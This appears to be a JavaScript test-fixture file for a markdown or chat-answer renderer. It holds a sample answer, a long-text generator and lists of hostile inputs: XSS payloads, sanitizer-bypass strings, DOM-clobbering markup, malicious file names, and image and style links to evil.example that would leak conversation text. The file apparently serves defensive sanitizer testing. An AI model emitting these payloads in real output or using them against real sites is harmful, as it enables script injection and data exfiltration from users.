// Texts that the tests make the model, the reader or a file say.

export const SAMPLE = `## Merge sort and quicksort

Both sort in *O(n log n)* on average; see [the overview](https://example.org/sorting). Use \`sorted()\` ~~always~~ mostly.

1. Merge sort splits, sorts, merges.
2. Quicksort partitions:
   - choose the pivot
   - recurse

| Property | Merge sort | Quicksort |
| --- | :---: | ---: |
| Worst case | O(n log n) | O(n²) |
| Stable | yes | no |

\`\`\`python
def quicksort(items):
    """Sorts without changing its argument."""
    return items if len(items) < 2 else sorted(items)
\`\`\`

> A sort is stable when equal items keep their order.

- [x] explain
- [ ] measure

Done: **bold**, *slanted*, and a last line.`;

const RAN = "swlScriptRan()";

// Each tries to run a script, to send something away, or to leave its box.
export const ANSWERS = [
  `<script>${RAN}</script>`,
  `<img src=x onerror=${RAN}>`,
  `<svg onload=${RAN}><circle/></svg>`,
  `<svg><animate onbegin=${RAN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${RAN}</script>"></iframe>`,
  `<a href="javascript:${RAN}">press</a>`,
  `[press](javascript:${RAN})`,
  `[press](JaVaScRiPt:${RAN})`,
  `[press](&#106;avascript:${RAN})`,
  `[press](java\tscript:${RAN})`,
  `[press](data:text/html,<script>${RAN}</script>)`,
  `[press](vbscript:${RAN})`,
  `[press](//evil.example/x)`,
  `[press](/v1/models)`,
  `[press](https://a.example/ "\\" onmouseover=\\"${RAN}")`,
  `[press](https://a.example/"onmouseover="${RAN})`,
  `<https://a.example/"onmouseover="${RAN}>`,
  `<javascript:${RAN}>`,
  `![picture](https://evil.example/?q=all+that+was+said)`,
  `![picture](x" onerror="${RAN})`,
  `[![picture](https://evil.example/a.png)](https://evil.example/b)`,
  `![p][r]\n\n[r]: https://evil.example/c.png "t"`,
  `<style>@import url(https://evil.example/s.css); * { background: url(https://evil.example/b) }</style>`,
  `<link rel=stylesheet href=https://evil.example/s.css>`,
  `<base href=https://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action=https://evil.example/><input name=q autofocus onfocus=${RAN}><button>send</button></form>`,
  `<video><source onerror=${RAN}></video><audio src=x onerror=${RAN}></audio>`,
  `<object data="javascript:${RAN}"></object><embed src="javascript:${RAN}">`,
  `<details open ontoggle=${RAN}><summary>x</summary></details>`,
  `<div style="position:fixed;inset:0;background:url(https://evil.example/)">over everything</div>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RAN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RAN}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RAN} src>">`,
  `<a id=app name=swlFault>clobber</a><form name=body><input name=firstChild></form>`,
  "```\"><img/src=x/onerror=" + RAN + ">\ncode\n```",
  "```html\n<img src=x onerror=" + RAN + ">\n<script>" + RAN + "</script>\n```",
  "~~~js onload=x\n</code></pre><script>" + RAN + "</script>\n~~~",
  `| a | b |\n| --- | --- |\n| <img src=x onerror=${RAN}> | [x](javascript:${RAN}) |`,
  `# <img src=x onerror=${RAN}> heading`,
  `- <script>${RAN}</script>\n  - [x](javascript:${RAN})`,
  `> <img src=x onerror=${RAN}>`,
  `\`<img src=x onerror=${RAN}>\``,
  `{{constructor.constructor('${RAN}')()}} \${${RAN}}`,
  `<template><script>${RAN}</script></template><xmp><img src=x onerror=${RAN}></xmp>`,
  `<!-- --!><img src=x onerror=${RAN}> -->`,
  `<![CDATA[<img src=x onerror=${RAN}>]]>`,
  `\u202e<img src=x onerror=${RAN}>\u202c`,
  `&lt;img src=x onerror=${RAN}&gt; &#60;script&#62;${RAN}&#60;/script&#62;`,
  `<img src="x\u0000" onerror\u0000=${RAN}>`,
  `www.evil.example/auto mail@evil.example https://evil.example/auto?x="><script>${RAN}</script>`,
];

export const NAMES = [
  `<img src=x onerror=${RAN}>.txt`,
  `"><script>${RAN}<script>.md`,
  "a`\n```\n<img src=x onerror=" + RAN + ">.csv",
  `javascript:${RAN}.json`,
];

const WORDS = "the store keeps what a token needs and reads the rest from the drive while other layers are computed so that nothing waits".split(" ");

// About n words of prose, lists, tables and code.
export function longAnswer(n) {
  const parts = [];
  let words = 0;
  for (let i = 0; words < n; i++) {
    const line = (k) => Array.from({ length: k }, (_, j) => WORDS[(i * 7 + j * 3) % WORDS.length]).join(" ");
    if (i % 7 === 3) parts.push("```python\n" + Array.from({ length: 12 }, (_, j) => `def step_${i}_${j}(x): return x + ${j}`).join("\n") + "\n```");
    else if (i % 7 === 5) parts.push("| a | b | c |\n| --- | --- | --- |\n" + Array.from({ length: 8 }, () => `| ${line(3)} | **${line(2)}** | \`${line(1)}\` |`).join("\n"));
    else if (i % 7 === 1) parts.push(Array.from({ length: 6 }, (_, j) => `${j + 1}. ${line(12)}`).join("\n"));
    else parts.push(`${i % 7 ? "" : `## ${line(4)}\n\n`}${line(40)}, **${line(4)}**, [${line(2)}](https://example.org/${i}). ${line(40)}.`);
    words += parts[parts.length - 1].split(/\s+/).length;
  }
  return parts.join("\n\n");
}
